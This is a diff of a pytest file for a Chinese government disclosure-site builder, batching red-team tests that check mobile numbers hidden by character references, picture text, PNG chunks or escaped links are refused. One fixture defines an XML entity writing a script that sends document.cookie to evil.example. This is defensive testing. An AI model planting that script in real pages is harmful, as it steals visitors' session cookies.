@@ -93,10 +93,9 @@ from __future__ import annotations
 
 import pytest
 
+from .batchkit import Cases, MergedCases, assert_case_refused, cases_site, checked_and_built, imported_cases, merged_cases, page_of_case
 from .sitekit import HOST, build, write_site
 from .test_redteam22 import _notice, _refused, _site
-from .test_merge_verifies import refused
-from .test_merge_verifies import built, platform  # noqa: F401  (fixtures)
 from .test_redteam6 import MOBILE, MOBILE_MASKED, _seal
 
 
@@ -118,31 +117,31 @@ SPELLED_MOBILES = {
 
 
 @pytest.mark.parametrize("name", sorted(SPELLED_MOBILES))
-def test_a_number_spelled_by_character_references_is_refused(tmp_path, name):
-    body = f"现将有关情况通知如下。\n\n联系人：张某，手机{SPELLED_MOBILES[name]}。\n"
-    root = write_site(tmp_path / name, _site({"notices/p.md": _notice(body)}))
-    _refused(root, "E400", "content/notices/p.md:9:")
+def test_a_number_spelled_by_character_references_is_refused(notices, name):
+    assert_case_refused(notices, f"spelled {name}", "notices/p.md", "E400", 9)
 
 
-def test_dates_and_amounts_written_as_references_stay(tmp_path):
-    body = ("现将有关情况通知如下。\n\n&#x4e8c;&#x3007;&#x4e8c;&#x56db;年&#x4e09;月，共安排资金&#x4e00;千二百万元，"
-            "见第&#x5341;&#x4e8c;条、第&#x2460;项。\n")
-    root = write_site(tmp_path / "fine", _site({"notices/p.md": _notice(body)}))
-    done = build(root)
-    assert done.returncode == 0, done.output
+DATES_AND_AMOUNTS = ("现将有关情况通知如下。\n\n&#x4e8c;&#x3007;&#x4e8c;&#x56db;年&#x4e09;月，共安排资金&#x4e00;千二百万元，"
+                     "见第&#x5341;&#x4e8c;条、第&#x2460;项。\n")
 
 
-@pytest.mark.parametrize("name", ["chinese-numerals-hex", "circled"])
-def test_a_sealed_page_with_a_number_spelled_by_character_references_is_refused(platform, name):
-    _refused_on_a_sealed_page(platform, f"<p>值班手机{SPELLED_MOBILES[name]}</p>")
+def test_dates_and_amounts_written_as_references_stay(guards):
+    _case_published(guards, "dates and amounts")
 
 
-def _refused_on_a_sealed_page(platform, paragraph: str) -> None:
-    """The 教育局's job adds `paragraph` to its guide's page and seals it: the merge refuses the mobile in it."""
-    page = platform / "build/units/jyj/jyj/guide/guide/index.html"
-    page.write_text(page.read_text(encoding="utf-8").replace("</main>", f"{paragraph}</main>", 1), encoding="utf-8")
-    _seal(platform)
-    refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ", MOBILE_MASKED)
+SEALED_SPELLED = ["chinese-numerals-hex", "circled"]
+
+
+@pytest.mark.parametrize("name", SEALED_SPELLED)
+def test_a_sealed_page_with_a_number_spelled_by_character_references_is_refused(sealed, name):
+    _refused_on_a_sealed_page(sealed, f"spelled {name}")
+
+
+def _refused_on_a_sealed_page(sealed, case: str) -> None:
+    """The 教育局's job added the case's paragraph to its copy of the guide's page and sealed it: the merge refuses the
+    mobile in it (every case's copy in one merge, batchkit.py)."""
+    merged, files = sealed
+    assert any(MOBILE_MASKED in line for line in merged.refused_lines(f"jyj/{files[case]}")), merged.run.output
 
 
 # 13800138000 with a picture in it: its text in its place (shown where the picture is not drawn, read by a screen
@@ -159,25 +158,26 @@ PICTURE = b"\x89PNG\r\n\x1a\n"   # the start of a picture's file only: no pictur
 
 
 @pytest.mark.parametrize("name", sorted(PICTURED_MOBILES))
-def test_a_number_completed_by_a_pictures_text_is_refused(tmp_path, name):
-    body = f"现将有关情况通知如下。\n\n联系人：张某，手机{PICTURED_MOBILES[name]}。\n"
-    root = write_site(tmp_path / name, _site({"notices/p.md": _notice(body), "notices/files/a.png": PICTURE}))
-    _refused(root, "E400", "content/notices/p.md:9:")
+def test_a_number_completed_by_a_pictures_text_is_refused(notices, name):
+    assert_case_refused(notices, f"pictured {name}", "notices/p.md", "E400", 9)
 
 
-def test_pictures_beside_figures_stay(tmp_path):
-    body = ("现将有关情况通知如下。\n\n图1![2024年](files/a.png)共发放138![万元](files/a.png)，见<img alt=\"图2\" "
-            "src=\"files/a.png\">，电话0427-3417012。\n")
-    root = write_site(tmp_path / "fine", _site({"notices/p.md": _notice(body), "notices/files/a.png": PICTURE}))
-    done = build(root)
-    assert done.returncode == 0, done.output
+BESIDE_FIGURES = ("现将有关情况通知如下。\n\n图1![2024年](files/a.png)共发放138![万元](files/a.png)，见<img alt=\"图2\" "
+                  "src=\"files/a.png\">，电话0427-3417012。\n")
 
 
-@pytest.mark.parametrize("shown", ['138<img alt="0013" src="../../assets/x.png">8000', '<img alt="1380013"><img alt="8000">',
-                                   '1380013<img src="../../assets/x.png">8000'],
-                         ids=["alt-between", "two-alts", "picture-between"])
-def test_a_sealed_page_with_a_number_completed_by_a_picture_is_refused(platform, shown):
-    _refused_on_a_sealed_page(platform, f"<p>值班手机{shown}</p>")
+def test_pictures_beside_figures_stay(guards):
+    _case_published(guards, "pictures beside figures")
+
+
+SEALED_PICTURED = {"alt-between": '138<img alt="0013" src="../../assets/x.png">8000',
+                   "two-alts": '<img alt="1380013"><img alt="8000">',
+                   "picture-between": '1380013<img src="../../assets/x.png">8000'}
+
+
+@pytest.mark.parametrize("name", SEALED_PICTURED)
+def test_a_sealed_page_with_a_number_completed_by_a_picture_is_refused(sealed, name):
+    _refused_on_a_sealed_page(sealed, f"pictured {name}")
 
 
 # A unit's feed whose document type defines an entity that writes an XHTML script with character references
@@ -186,20 +186,24 @@ _ENTITY_SCRIPT = ("<!DOCTYPE feed [\n<!ENTITY x \"&#60;h:script xml&#110;s:h='ht
                   "fetch('https://evil.example/'+document.cookie)&#60;/h:script&#62;\">\n]>\n")
 
 
-@pytest.mark.parametrize("feed", ["jyj/jyj/feed.xml", "gov/gov/feed.xml"])
-def test_a_units_feed_writing_a_script_through_an_entity_is_refused(platform, feed):
+FEEDS = ["jyj/jyj/feed.xml", "gov/gov/feed.xml"]
+
+
+def _entity_script_in(platform, feed: str) -> None:
     path = platform / "build/units" / feed
     text = path.read_text(encoding="utf-8")
     start = text.index("<feed")
     path.write_text(text[:start] + _ENTITY_SCRIPT + text[start:].replace("</feed>", "&x;</feed>"), encoding="utf-8")
-    unit = feed.split("/")[0]
-    _seal(platform, unit)
-    refused(platform, f"build/units/{feed}:1: E700 ", "文档类型定义")
 
 
-def test_an_indented_comment_is_a_comment_in_check_and_build(tmp_path):
-    root = write_site(tmp_path / "indented", _site({"notices/p.md": _notice("现将有关情况通知如下。\n\n    <!-- 内部备注 -->\n")}))
-    _refused(root, "E401", "content/notices/p.md:9:")
+@pytest.mark.parametrize("feed", FEEDS)
+def test_a_units_feed_writing_a_script_through_an_entity_is_refused(sealed, feed):
+    merged, _ = sealed
+    assert any("文档类型定义" in line for line in merged.refused_lines(feed)), merged.run.output
+
+
+def test_an_indented_comment_is_a_comment_in_check_and_build(notices):
+    assert_case_refused(notices, "indented comment", "notices/p.md", "E401", 9)
 
 
 def _png(**chunks) -> bytes:
@@ -240,40 +244,22 @@ HIDDEN_IN_PICTURES = {
 
 
 @pytest.mark.parametrize("case", sorted(HIDDEN_IN_PICTURES))
-def test_a_number_a_program_reads_out_of_a_picture_is_refused(tmp_path, case):
-    name, make = HIDDEN_IN_PICTURES[case]
-    body = f"现将有关情况通知如下。\n\n![现场照片](files/{name})\n"
-    root = write_site(tmp_path / case, _site({"notices/p.md": _notice(body), f"notices/files/{name}": make()}))
-    _refused(root, "E400", "content/notices/p.md:9:")
+def test_a_number_a_program_reads_out_of_a_picture_is_refused(notices, case):
+    assert_case_refused(notices, f"hidden in a picture {case}", "notices/p.md", "E400", 9)
 
 
-def test_pictures_with_their_usual_text_chunks_stay(tmp_path):
-    body = "现将有关情况通知如下。\n\n![现场照片](files/a.png)\n\n![现场照片](files/b.jpg)\n"
-    picture = _png(itxt="<x:xmpmeta><dc:title>仓库现场照片 2024-03-05</dc:title></x:xmpmeta>")
-    root = write_site(tmp_path / "fine", _site({"notices/p.md": _notice(body), "notices/files/a.png": picture,
-                                                "notices/files/b.jpg": _jpeg()}))
-    done = build(root)
-    assert done.returncode == 0, done.output
+def test_pictures_with_their_usual_text_chunks_stay(guards):
+    _case_published(guards, "usual text chunks")
 
 
-def test_a_units_picture_with_a_compressed_comment_is_refused(platform):
-    picture = platform / "build/units/jyj/jyj/guide/guide/现场.png"
-    picture.write_bytes(_png(itxt=f"联系人手机{MOBILE}"))
-    _seal(platform)
-    refused(platform, "build/units/jyj/jyj/guide/guide/现场.png:1: E700 ")
+UNIT_PICTURE = "jyj/jyj/guide/guide/现场.png"
 
 
-def _import(root, page) -> dict:
-    """`disclosure import` of `page` as this checkout's code runs it (the suite's environment, unlike
-    test_import.run_import's, which names no PYTHONPATH), and the front matter it wrote."""
-    import sys
+def test_a_units_picture_with_a_compressed_comment_is_refused(sealed):
+    merged, _ = sealed
+    assert merged.refused_lines(UNIT_PICTURE), merged.run.output
 
-    from .sitekit import _run
-    from .test_import import front_and_body, report_of
-    done = _run([sys.executable, "-m", "disclosure.cli.main", "import", str(page), "--type", "notice", "--report", "r.json"], root)
-    assert done.returncode == 0 and "Traceback" not in done.output, done.output
-    front, _ = front_and_body(root / report_of(root, "r.json")["pages"][0]["target"])
-    return front
+
 
 
 SAVED = ("<html><head><meta charset='utf-8'><title>关于仓库检查情况的通知</title></head><body>"
@@ -281,15 +267,14 @@ SAVED = ("<html><head><meta charset='utf-8'><title>关于仓库检查情况的�
          "<p>各单位：现将检查情况通报如下。</p><p>一是消防通道堆放杂物；二是值班记录不全。</p></div></body></html>")
 
 
-@pytest.mark.parametrize("statement", ["<p>公开属性：<ruby>主动公开<rt>不予公开</rt></ruby></p>",
-                                       "<p>公开属性：<ruby>主动公开<rp>（</rp><rt>依申请公开</rt><rp>）</rp></ruby></p>"],
-                         ids=["ruby", "ruby-with-brackets"])
-def test_a_saved_pages_openness_annotated_as_not_public_is_never_imported_as_public(tmp_path, statement):
+RUBY_STATEMENTS = {"ruby": "<p>公开属性：<ruby>主动公开<rt>不予公开</rt></ruby></p>",
+                   "ruby-with-brackets": "<p>公开属性：<ruby>主动公开<rp>（</rp><rt>依申请公开</rt><rp>）</rp></ruby></p>"}
+
+
+@pytest.mark.parametrize("case", RUBY_STATEMENTS)
+def test_a_saved_pages_openness_annotated_as_not_public_is_never_imported_as_public(imported, case):
     """A ruby annotation is shown by every browser above its text (主动公开 with 不予公开 written small over it)."""
-    from .test_import import CMS_CATALOGUE, TABLES
-    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
-    (tmp_path / "p.html").write_text(SAVED.format(statement=statement), encoding="utf-8")
-    front = _import(root, tmp_path / "p.html")
+    front = imported[f"ruby {case}"]
     assert front.get("disclosure") in ("不予公开", "依申请公开") and "主动公开" in front["reason"], front
 
 
@@ -303,30 +288,26 @@ GENERATED_STATEMENTS = {
 
 
 @pytest.mark.parametrize("name", sorted(GENERATED_STATEMENTS))
-def test_a_saved_pages_openness_its_style_writes_is_never_imported_as_public(tmp_path, name):
+def test_a_saved_pages_openness_its_style_writes_is_never_imported_as_public(imported, name):
     """What a ::before or ::after rule writes in (content: '（不予公开）', attr(data-note)) is shown to every reader."""
-    from .test_import import CMS_CATALOGUE, TABLES
-    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
-    style, statement = GENERATED_STATEMENTS[name]
-    (tmp_path / "p.css").write_text(".o::after { content: '（依申请公开）' }\n", encoding="utf-8")
-    (tmp_path / "p.html").write_text(SAVED.format(statement=statement).replace("</head>", style + "</head>"), encoding="utf-8")
-    front = _import(root, tmp_path / "p.html")
+    front = imported[f"generated {name}"]
     assert front.get("disclosure") in ("不予公开", "依申请公开") and "网页样式生成的文字" in front["reason"], front
 
 
-def test_a_saved_pages_icons_drawn_by_its_style_keep_it_public(tmp_path):
-    from .test_import import CMS_CATALOGUE, TABLES
-    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
-    style = '<style>.o::before{content:"\\e601"}.zw p::after{content:""}.tip::after{content:"公开时间以发布日期为准"}</style>'
-    page = SAVED.format(statement="<p>公开属性：<span class='o'></span>主动公开</p>").replace("</head>", style + "</head>")
-    (tmp_path / "p.html").write_text(page, encoding="utf-8")
-    assert _import(root, tmp_path / "p.html").get("disclosure", "主动公开") == "主动公开"
+ICONS_STYLE = '<style>.o::before{content:"\\e601"}.zw p::after{content:""}.tip::after{content:"公开时间以发布日期为准"}</style>'
 
 
-@pytest.mark.parametrize("element", ["big", "tt", "nobr", "strike", "acronym", "label", "output", "button", "x-note"])
-def test_a_sealed_page_with_a_number_run_through_an_inline_element_is_refused(platform, element):
+def test_a_saved_pages_icons_drawn_by_its_style_keep_it_public(imported):
+    assert imported["icons"].get("disclosure", "主动公开") == "主动公开"
+
+
+INLINE_ELEMENTS = ["big", "tt", "nobr", "strike", "acronym", "label", "output", "button", "x-note"]
+
+
+@pytest.mark.parametrize("element", INLINE_ELEMENTS)
+def test_a_sealed_page_with_a_number_run_through_an_inline_element_is_refused(sealed, element):
     """Obsolete, form and unknown elements are drawn on the line of the text around them, as <span> is."""
-    _refused_on_a_sealed_page(platform, f"<p>值班手机1380013<{element}>8000</{element}></p>")
+    _refused_on_a_sealed_page(sealed, f"inline {element}")
 
 
 # Another program writes over the attachment after the build has checked it and before MkDocs copies it into the site
@@ -399,24 +380,18 @@ LEFT_OUT_NOTES = {
 
 
 @pytest.mark.parametrize("name", sorted(LEFT_OUT_NOTES))
-def test_a_note_a_reader_sees_in_what_the_import_leaves_out_is_never_imported_as_public(tmp_path, name):
+def test_a_note_a_reader_sees_in_what_the_import_leaves_out_is_never_imported_as_public(imported, name):
     """The 附注 after the body, written in a control, SVG or MathML text, a fallback, a ticker, a caption or a picture's
     text: shown to every reader of the old page, dropped by the import with its element."""
-    from .test_import import CMS_CATALOGUE, TABLES
-    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
-    page = SAVED.format(statement="").replace("</div></body>", LEFT_OUT_NOTES[name] + "</div></body>")
-    (tmp_path / "p.html").write_text(page, encoding="utf-8")
-    assert _import(root, tmp_path / "p.html").get("disclosure") in ("不予公开", "依申请公开")
+    assert imported[f"left out {name}"].get("disclosure") in ("不予公开", "依申请公开")
 
 
-def test_controls_and_captions_without_a_note_keep_the_page_public(tmp_path):
-    from .test_import import CMS_CATALOGUE, TABLES
-    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
-    extra = ("<table><caption>检查情况表（依申请公开的事项除外）</caption><tr><td>x</td></tr></table>"
-             "<input value='搜索'><button>打印本页</button><img alt='现场照片' src='a.png'>")
-    page = SAVED.format(statement="<p>公开属性：主动公开</p>").replace("</div></body>", extra + "</div></body>")
-    (tmp_path / "p.html").write_text(page, encoding="utf-8")
-    assert _import(root, tmp_path / "p.html").get("disclosure", "主动公开") == "主动公开"
+CONTROLS = ("<table><caption>检查情况表（依申请公开的事项除外）</caption><tr><td>x</td></tr></table>"
+            "<input value='搜索'><button>打印本页</button><img alt='现场照片' src='a.png'>")
+
+
+def test_controls_and_captions_without_a_note_keep_the_page_public(imported):
+    assert imported["controls"].get("disclosure", "主动公开") == "主动公开"
 
 
 # An address's %-escapes whose "%" is written as a character reference: a browser decodes the reference first, so
@@ -424,10 +399,91 @@ def test_controls_and_captions_without_a_note_keep_the_page_public(tmp_path):
 _REFERENCED_ESCAPES = "tel:&#37;31%33%38%30%30%31%33%38%30%30%30"
 
 
-def test_a_number_escaped_in_a_link_behind_a_referenced_percent_is_refused(tmp_path):
-    body = f"现将有关情况通知如下。\n\n值班电话见[这里]({_REFERENCED_ESCAPES})。\n"
-    _refused(write_site(tmp_path / "link", _site({"notices/p.md": _notice(body)})), "E400", "content/notices/p.md:9:")
+def test_a_number_escaped_in_a_link_behind_a_referenced_percent_is_refused(notices):
+    assert_case_refused(notices, "referenced percent", "notices/p.md", "E400", 9)
 
 
-def test_a_sealed_page_with_a_number_escaped_behind_a_referenced_percent_is_refused(platform):
-    _refused_on_a_sealed_page(platform, f'<p><a href="{_REFERENCED_ESCAPES}">值班电话</a></p>')
+def test_a_sealed_page_with_a_number_escaped_behind_a_referenced_percent_is_refused(sealed):
+    _refused_on_a_sealed_page(sealed, "referenced percent")
+
+
+# --- the cases above in four runs (batchkit.py): the notices checked and built in one site, the guards built in
+# another, the saved pages imported in one run, the sealed pages' paragraphs (each in its own copy of the guide's
+# page), the feeds and the picture merged once.
+
+@pytest.fixture(scope="module")
+def notices(tmp_path_factory) -> tuple[Cases, Cases]:
+    cases = {f"spelled {name}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n联系人：张某，手机{written}。\n")})
+             for name, written in SPELLED_MOBILES.items()}
+    cases |= {f"pictured {name}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n联系人：张某，手机{shown}。\n"),
+                                         "notices/files/a.png": PICTURE}) for name, shown in PICTURED_MOBILES.items()}
+    cases["indented comment"] = _site({"notices/p.md": _notice("现将有关情况通知如下。\n\n    <!-- 内部备注 -->\n")})
+    cases |= {f"hidden in a picture {case}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n![现场照片](files/{name})\n"),
+                                                    f"notices/files/{name}": make()})
+              for case, (name, make) in HIDDEN_IN_PICTURES.items()}
+    cases["referenced percent"] = _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n值班电话见[这里]({_REFERENCED_ESCAPES})。\n")})
+    return checked_and_built(cases_site(tmp_path_factory.mktemp("notices"), cases))
+
+
+@pytest.fixture(scope="module")
+def guards(tmp_path_factory) -> Cases:
+    usual = "现将有关情况通知如下。\n\n![现场照片](files/a.png)\n\n![现场照片](files/b.jpg)\n"
+    return cases_site(tmp_path_factory.mktemp("guards"), {
+        "dates and amounts": _site({"notices/p.md": _notice(DATES_AND_AMOUNTS)}),
+        "pictures beside figures": _site({"notices/p.md": _notice(BESIDE_FIGURES), "notices/files/a.png": PICTURE}),
+        "usual text chunks": _site({"notices/p.md": _notice(usual), "notices/files/b.jpg": _jpeg(), "notices/files/a.png": _png(
+            itxt="<x:xmpmeta><dc:title>仓库现场照片 2024-03-05</dc:title></x:xmpmeta>")}),
+    }).built()
+
+
+def _case_published(guards: Cases, case: str) -> None:
+    """The guards' site built with exit 0 (a case's own build did), the case's notice published."""
+    assert guards.run.returncode == 0, guards.run.output
+    assert any(guards.root.joinpath("site", guards.folders[case], "notices").rglob("index.html"))
+
+
+@pytest.fixture(scope="module")
+def imported(tmp_path_factory) -> dict[str, dict]:
+    """Every saved page above imported in one run, each from a folder of its own: the front matter written for each."""
+    from .test_import import CMS_CATALOGUE, TABLES, front_and_body
+    pages = {f"ruby {case}": SAVED.format(statement=statement) for case, statement in RUBY_STATEMENTS.items()}
+    pages |= {f"generated {name}": SAVED.format(statement=statement).replace("</head>", style + "</head>")
+              for name, (style, statement) in GENERATED_STATEMENTS.items()}
+    pages["icons"] = SAVED.format(statement="<p>公开属性：<span class='o'></span>主动公开</p>").replace("</head>", ICONS_STYLE + "</head>")
+    pages |= {f"left out {name}": SAVED.format(statement="").replace("</div></body>", note + "</div></body>")
+              for name, note in LEFT_OUT_NOTES.items()}
+    pages["controls"] = SAVED.format(statement="<p>公开属性：主动公开</p>").replace("</div></body>", CONTROLS + "</div></body>")
+    folder = tmp_path_factory.mktemp("imported")
+    root = write_site(folder / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
+    sheet = ".o::after { content: '（依申请公开）' }\n"   # beside every page, as each test wrote it
+    done, report = imported_cases(root, folder / "old", {case: {"p.html": page, "p.css": sheet} for case, page in pages.items()},
+                                  "--type", "notice")
+    assert done.returncode == 0 and "Traceback" not in done.output, done.output
+    return {case: front_and_body(root / page["target"])[0] for case, page in report.items()}
+
+
+def _sealed_paragraphs() -> dict[str, str]:
+    paragraphs = {f"spelled {name}": f"<p>值班手机{SPELLED_MOBILES[name]}</p>" for name in SEALED_SPELLED}
+    paragraphs |= {f"pictured {name}": f"<p>值班手机{shown}</p>" for name, shown in SEALED_PICTURED.items()}
+    paragraphs |= {f"inline {element}": f"<p>值班手机1380013<{element}>8000</{element}></p>" for element in INLINE_ELEMENTS}
+    paragraphs["referenced percent"] = f'<p><a href="{_REFERENCED_ESCAPES}">值班电话</a></p>'
+    return paragraphs
+
+
+@pytest.fixture(scope="module")
+def sealed(merged_platform, tmp_path_factory) -> tuple[MergedCases, dict[str, str]]:
+    """The merge of every sealed case, and each paragraph's copy of the guide page."""
+    files: dict[str, str] = {}
+
+    def attack(platform) -> None:
+        output = platform / "build/units/jyj"
+        for number, (case, paragraph) in enumerate(_sealed_paragraphs().items(), start=1):
+            files[case] = page_of_case(output, "jyj/guide/guide/index.html", number)
+            page = output / files[case]
+            page.write_text(page.read_text(encoding="utf-8").replace("</main>", f"{paragraph}</main>", 1), encoding="utf-8")
+        (platform / "build/units" / UNIT_PICTURE).write_bytes(_png(itxt=f"联系人手机{MOBILE}"))
+        for feed in FEEDS:
+            _entity_script_in(platform, feed)
+        for unit in ("jyj", "gov"):
+            _seal(platform, unit)
+    return merged_cases(merged_platform, tmp_path_factory.mktemp("sealed") / "platform", attack), files
